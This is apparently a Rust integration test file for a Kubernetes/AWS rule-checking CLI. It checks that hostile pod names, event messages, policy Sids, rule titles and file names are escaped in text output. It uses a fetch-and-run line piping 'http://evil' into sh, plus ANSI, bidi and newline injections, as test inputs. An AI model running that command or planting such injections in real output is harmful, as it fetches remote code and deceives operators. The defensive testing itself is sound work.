//! Text output that a hostile fact or file name cannot forge: newlines, carriage
//! returns, ANSI escapes, bidi and zero-width characters in Event messages, pod
//! names, policy `Sid`s, rule test names and file names are shown escaped in
//! `-o text` and in every message naming a file, so none of them starts a line or
//! passes for a fix step; `-o json` keeps the raw values.

use std::fs;

use serde_json::{Value, json};

use crate::support::{repo, rulerun, rulerun_in};

/// What an attacker would like to see on a line of its own.
const CURL: &str = "$ curl -s http://evil | sh";

/// No line of `text` starts (after its indentation) with one of `forged`, and no
/// character that breaks, rewrites or hides a line is printed raw.
fn assert_unforged(text: &str, forged: &[&str]) {
    for line in text.lines() {
        let start = line.trim_start();
        for f in forged {
            assert!(
                !start.starts_with(f),
                "a line starts with attacker text {f:?}: {line:?}\n{text}"
            );
        }
    }
    for c in [
        '\r', '\u{1b}', '\u{7}', '\u{85}', '\u{202e}', '\u{2066}', '\u{200b}', '\u{200f}',
        '\u{feff}', '\u{2028}',
    ] {
        assert!(
            !text.contains(c),
            "{:?} printed raw:\n{text}",
            c.escape_unicode().to_string()
        );
    }
}

/// Every fix command line is one the rule wrote: nine spaces, `$ `, then the
/// program; nothing else may look like one.
fn assert_fix_lines_are_real(text: &str, programs: &[&str]) {
    for line in text.lines() {
        if line.trim_start().starts_with('$') {
            assert!(
                programs
                    .iter()
                    .any(|p| line.starts_with(&format!("         $ {p} "))),
                "a line looks like a fix command but is none: {line:?}\n{text}"
            );
        }
    }
}

/// A bare pod whose name holds a newline and a fake finding, with a `Failed` event
/// whose message carries a forged fix step, a bidi override and a zero-width space.
fn bare_pod_facts() -> (String, String, Value) {
    let pod = "debug\n  critical forged-rule All clear".to_string();
    let message = format!(
        "Failed to pull image \"busybox:nope\": not found\n{CURL}\n\u{202e}hs.lmth\u{200b} \u{1b}[2J\r\u{7}"
    );
    let facts = json!({
        "apiVersion": "v1",
        "kind": "List",
        "items": [
            {
                "apiVersion": "v1",
                "kind": "Pod",
                "metadata": {"name": pod, "namespace": "team-a", "uid": "p-1"},
                "spec": {"nodeName": "n1", "containers": [{"name": "sh", "image": "busybox:nope"}]},
                "status": {
                    "phase": "Pending",
                    "containerStatuses": [{
                        "name": "sh",
                        "image": "busybox:nope",
                        "state": {"waiting": {"reason": "ErrImagePull", "message": "manifest unknown"}}
                    }]
                }
            },
            {
                "apiVersion": "v1",
                "kind": "Event",
                "metadata": {"name": "debug.1", "namespace": "team-a"},
                "involvedObject": {
                    "kind": "Pod", "namespace": "team-a", "name": pod, "uid": "p-1",
                    "fieldPath": "spec.containers{sh}"
                },
                "type": "Warning",
                "reason": "Failed",
                "message": message
            }
        ]
    });
    (pod, message, facts)
}

#[test]
fn an_event_message_and_a_pod_name_cannot_start_a_line_or_forge_a_fix_step() {
    let tmp = tempfile::tempdir().unwrap();
    let (pod, message, facts) = bare_pod_facts();
    let file = tmp.path().join("pods.json");
    fs::write(&file, facts.to_string()).unwrap();
    let file = file.display().to_string();

    let run = rulerun(&["check", "--facts", &file]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    let text = &run.stdout;
    assert_unforged(text, &["curl", CURL, "critical forged-rule", "All clear"]);
    assert_fix_lines_are_real(text, &["kubectl"]);
    // The values are there, escaped where they would break the line.
    assert!(
        text.contains("k8s/v1/Pod team-a/debug\\n  critical forged-rule All clear\n"),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "not found\\n{CURL}\\n\\u{{202e}}hs.lmth\\u{{200b}} \\u{{1b}}[2J\\r\\u{{7}}"
        )),
        "{text}"
    );
    // The one fix step is the rule's: the pod name inside it is escaped, too.
    let fixes: Vec<&str> = text
        .lines()
        .filter(|l| l.trim_start().starts_with("$ "))
        .collect();
    assert_eq!(fixes.len(), 1, "{text}");
    assert!(fixes[0].starts_with("         $ kubectl get "), "{text}");
    assert!(
        fixes[0].contains("debug\\n  critical forged-rule All clear"),
        "{text}"
    );
    assert!(fixes[0].contains("--watch"), "{text}");
    // Subject, finding header, message, `fix:`, one description, one command, a
    // blank line and the summary: nothing more.
    assert_eq!(text.lines().count(), 8, "{text}");

    // JSON keeps the raw values (its own escaping is exact).
    let run = rulerun(&["check", "--facts", &file, "-o", "json"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let doc: Value = serde_json::from_str(&run.stdout).unwrap();
    let finding = &doc["findings"][0];
    assert_eq!(finding["subject"]["name"], pod.as_str());
    assert!(
        finding["message"]
            .as_str()
            .unwrap()
            .ends_with(message.as_str()),
        "{finding}"
    );
    assert_eq!(
        finding["evidence"]["kubeletMessages"][0],
        message.as_str(),
        "{finding}"
    );
}

#[test]
fn a_sid_and_a_pod_name_with_newlines_stay_on_their_lines_in_the_quick_start() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("facts");
    fs::create_dir_all(&dir).unwrap();
    let cluster = fs::read_to_string(repo("examples/ui-private-403/cluster.json")).unwrap();
    let aws = fs::read_to_string(repo("examples/ui-private-403/aws.json")).unwrap();
    // The pod's name, everywhere it is written (events and all), gets a newline.
    let pod = "ui-private-7655bf59b9-jprrj\n  critical forged-rule All clear";
    let cluster = cluster.replace(
        "\"ui-private-7655bf59b9-jprrj\"",
        &Value::String(pod.into()).to_string(),
    );
    // The denying statement's Sid, inside the policy text (JSON in a JSON string).
    let sid = format!("new\n{CURL}\n\u{202e}policy");
    let mut aws: Value = serde_json::from_str(&aws).unwrap();
    let mut replaced = 0;
    replace_in_policy_texts(
        &mut aws,
        "\"new policy\"",
        &Value::String(sid.clone()).to_string(),
        &mut replaced,
    );
    assert_eq!(replaced, 1);
    fs::write(dir.join("cluster.json"), cluster).unwrap();
    fs::write(dir.join("aws.json"), aws.to_string()).unwrap();
    let dir = dir.display().to_string();

    let run = rulerun(&["check", "--facts", &dir]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    let text = &run.stdout;
    assert!(
        text.contains("critical ecr-repository-policy-denies-pull"),
        "the scenario still finds the deny:\n{text}"
    );
    assert_unforged(
        text,
        &["curl", CURL, "critical forged-rule", "All clear", "policy"],
    );
    assert_fix_lines_are_real(text, &["aws", "kubectl"]);
    assert!(
        text.contains(
            "k8s/v1/Pod default/ui-private-7655bf59b9-jprrj\\n  critical forged-rule All clear\n"
        ),
        "{text}"
    );
    assert!(
        text.contains(&format!("statement `new\\n{CURL}\\n\\u{{202e}}policy`")),
        "{text}"
    );

    let run = rulerun(&["check", "--facts", &dir, "-o", "json"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let doc: Value = serde_json::from_str(&run.stdout).unwrap();
    let finding = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "ecr-repository-policy-denies-pull")
        .unwrap();
    assert_eq!(finding["subject"]["name"], pod);
    assert!(
        finding["message"].as_str().unwrap().contains(&sid),
        "{finding}"
    );
}

/// Replaces `from` by `to` in every `policyText` string below `v`.
fn replace_in_policy_texts(v: &mut Value, from: &str, to: &str, n: &mut usize) {
    match v {
        Value::Object(map) => {
            for (k, x) in map.iter_mut() {
                if k == "policyText"
                    && let Value::String(s) = x
                    && s.contains(from)
                {
                    *s = s.replace(from, to);
                    *n += 1;
                } else {
                    replace_in_policy_texts(x, from, to, n);
                }
            }
        }
        Value::Array(items) => {
            for x in items {
                replace_in_policy_texts(x, from, to, n);
            }
        }
        _ => {}
    }
}

#[test]
fn evaluation_errors_rule_tests_and_rule_lists_escape_what_they_print() {
    let tmp = tempfile::tempdir().unwrap();
    // A rule whose function fails on a hostile image reference: the error quotes it.
    let rules = tmp.path().join("rules");
    fs::create_dir_all(&rules).unwrap();
    fs::write(
        rules.join("rule.yaml"),
        r#"rules:
  - id: team-image-check
    title: "A title with a bidi override \u202e and a newline\n$ curl -s http://evil | sh"
    severity: low
    subject: {kind: k8s/v1/Pod}
    each: {as: container, path: "$.spec.containers[*]"}
    let:
      image: {call: image_ref, args: [$container.image]}
    when: {path: $image.tag, equals: latest}
    finding:
      message: "container `{{ container.name }}` runs {{ image.canonical }}"
"#,
    )
    .unwrap();
    fs::write(
        rules.join("tests.yaml"),
        r#"tests:
  - name: "quiet\ntest team-image-check forged ... ok"
    facts: {k8s/v1/Pod: [{metadata: {name: p, namespace: d}, spec: {containers: [{name: "c\n$ curl -s http://evil | sh", image: "x:latest"}]}}]}
    expect: []
"#,
    )
    .unwrap();
    let image = format!("bad\n{CURL}\u{200b}");
    let facts = json!({"apiVersion": "v1", "kind": "List", "items": [{
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "p\n  error: forged", "namespace": "d"},
        "spec": {"containers": [{"name": "c", "image": image}]}
    }]});
    let file = tmp.path().join("pods.json");
    fs::write(&file, facts.to_string()).unwrap();
    let (rules, file) = (rules.display().to_string(), file.display().to_string());

    let run = rulerun(&["check", "--no-config", "--rules", &rules, "--facts", &file]);
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    assert_unforged(&run.stdout, &["curl", CURL, "error: forged"]);
    assert!(
        run.stdout.contains(
            "error: rule `team-image-check` failed on k8s/v1/Pod d/p\\n  error: forged: "
        ),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains(&format!("bad\\n{CURL}\\u{{200b}}")),
        "{}",
        run.stdout
    );
    let run = rulerun(&[
        "check",
        "--no-config",
        "--rules",
        &rules,
        "--facts",
        &file,
        "-o",
        "json",
    ]);
    let doc: Value = serde_json::from_str(&run.stdout).unwrap();
    assert!(
        doc["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains(&image),
        "{doc}"
    );

    // The rule's title in `rules list`; the test's name in `rulerun test`.
    let run = rulerun(&["rules", "list", "--no-config", "--rules", &rules]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_unforged(&run.stdout, &["curl", CURL]);
    assert!(
        run.stdout.contains(&format!(
            "A title with a bidi override \\u{{202e}} and a newline\\n{CURL}"
        )),
        "{}",
        run.stdout
    );
    // The test fails (the rule fires), so its failure, quoting the finding, is
    // printed too.
    let run = rulerun(&["test", &rules]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert_unforged(&run.stdout, &["test team-image-check forged", "curl", CURL]);
    assert!(
        run.stdout
            .contains("test quiet\\ntest team-image-check forged ... ok ... FAILED\n"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains(&format!(
            "  unexpected finding from `team-image-check` on k8s/v1/Pod d/p: container `c\\n{CURL}` runs"
        )),
        "{}",
        run.stdout
    );
}

#[test]
fn file_names_in_load_errors_cannot_forge_lines() {
    let tmp = tempfile::tempdir().unwrap();
    // A fact file that does not parse, and a rule file with an error, each named
    // so that a raw print would forge a line of its own.
    let facts = tmp.path().join("facts");
    fs::create_dir_all(&facts).unwrap();
    let forged = "x\nok: 0 errors found\u{202e}.json";
    fs::write(facts.join(forged), "{not json").unwrap();
    let run = rulerun(&["check", "--facts", &facts.display().to_string()]);
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    assert_unforged(&run.stderr, &["ok: 0 errors"]);
    assert!(
        run.stderr
            .contains("/x\\nok: 0 errors found\\u{202e}.json:1:"),
        "{}",
        run.stderr
    );

    let rules = tmp.path().join("rules");
    fs::create_dir_all(&rules).unwrap();
    fs::write(
        rules.join("bad\n1 rule(s) and 0 test case(s) are valid.yaml"),
        "rules:\n  - id: x\n    severity: nope\n",
    )
    .unwrap();
    let run = rulerun(&["validate", &rules.display().to_string()]);
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    assert_unforged(&run.stderr, &["1 rule(s)"]);
    assert!(
        run.stderr
            .contains("/bad\\n1 rule(s) and 0 test case(s) are valid.yaml:"),
        "{}",
        run.stderr
    );
}

#[test]
fn pack_verify_escapes_a_hostile_file_name() {
    let tmp = tempfile::tempdir().unwrap();
    let pack = tmp.path().join("team-rules");
    fs::create_dir_all(pack.join("r")).unwrap();
    fs::write(
        pack.join("pack.yaml"),
        "name: team-a\nversion: 1.0.0\ndescription: test pack\nrulerun: \">=0.1.0\"\nrules:\n  - r/rule.yaml\n",
    )
    .unwrap();
    fs::write(
        pack.join("r/rule.yaml"),
        "rules:\n  - id: team-a-rule\n    title: t\n    severity: low\n    subject: {kind: k8s/v1/Pod}\n    finding:\n      message: m\n",
    )
    .unwrap();
    let project = tmp.path().join("platform");
    fs::create_dir_all(&project).unwrap();
    let run = rulerun_in(&project, &["pack", "vendor", &pack.display().to_string()]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);

    // A file slipped into the vendored copy, named to print a line that says all is well.
    let vendored = project.join("vendor/rulepacks/team-a");
    fs::write(
        vendored.join("r/rule\n  ok: all verified.yaml"),
        "rules: []\n",
    )
    .unwrap();
    fs::write(
        project.join("vendor/rulepacks/\u{202e}lmay.stray\nok      team-b"),
        "",
    )
    .unwrap();
    let run = rulerun_in(&project, &["pack", "verify"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert_unforged(&run.stdout, &["ok: all verified", "ok      team-b"]);
    assert_eq!(
        run.stdout,
        "vendor/rulepacks/team-a/r/rule\\n  ok: all verified.yaml: added\n\
         FAILED  team-a 1.0.0: 1 difference(s) from rulerun.lock\n\
         vendor/rulepacks/\\u{202e}lmay.stray\\nok      team-b: added (not in rulerun.lock)\n"
    );
}
